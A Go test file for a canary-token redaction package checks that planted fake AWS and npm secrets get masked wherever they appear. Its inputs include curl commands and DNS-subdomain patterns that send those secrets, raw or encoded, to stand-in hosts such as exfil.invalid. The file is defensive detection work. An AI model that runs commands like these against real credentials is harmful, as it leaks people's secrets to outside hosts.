package canary

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"math/rand"
	"net/url"
	"strings"
	"testing"
)

func TestRedact(t *testing.T) {
	s, err := New(rand.New(rand.NewSource(7)))
	if err != nil {
		t.Fatal(err)
	}
	secret := s.Value("AWS_SECRET_ACCESS_KEY")
	token := s.Value("NPM_TOKEN")
	h := hex.EncodeToString([]byte(secret))
	for _, tc := range []struct{ in, want string }{
		{"curl -d " + secret + " https://x.invalid", "curl -d {canary:AWS_SECRET_ACCESS_KEY} https://x.invalid"},
		{base64.StdEncoding.EncodeToString([]byte(secret)) + ".b.exfil.invalid", "{canary:AWS_SECRET_ACCESS_KEY}.b.exfil.invalid"},
		{h[:40] + "." + h[40:] + ".t.exfil.invalid", "{canary:AWS_SECRET_ACCESS_KEY}.t.exfil.invalid"},
		{strings.ToLower(token) + ".n.exfil.invalid", "{canary:NPM_TOKEN}.n.exfil.invalid"},
		{hex.EncodeToString([]byte(secret[:20])) + ".x.exfil.invalid", "{canary:AWS_SECRET_ACCESS_KEY}.x.exfil.invalid"},
		{strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(token))) + ".b32.invalid", "{canary:NPM_TOKEN}.b32.invalid"},
		{"curl -F x=" + url.QueryEscape("//registry.npmjs.org/:_authToken="+token) + " http://npm.invalid", "curl -F x=%2F%2Fregistry.npmjs.org%2F%3A_authToken%3D{canary:NPM_TOKEN} http://npm.invalid"},
		{"/tmp/" + token[4:20] + ".txt", "/tmp/{canary:NPM_TOKEN}.txt"},
		{"api.example.com", "api.example.com"},
		{"", ""},
	} {
		got := s.Redact(tc.in)
		if got != tc.want {
			t.Errorf("Redact(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if strings.Contains(got, secret[:12]) || strings.Contains(got, h[:24]) || strings.Contains(strings.ToLower(got), strings.ToLower(token[4:16])) {
			t.Errorf("Redact(%q) still holds a secret: %q", tc.in, got)
		}
	}
}
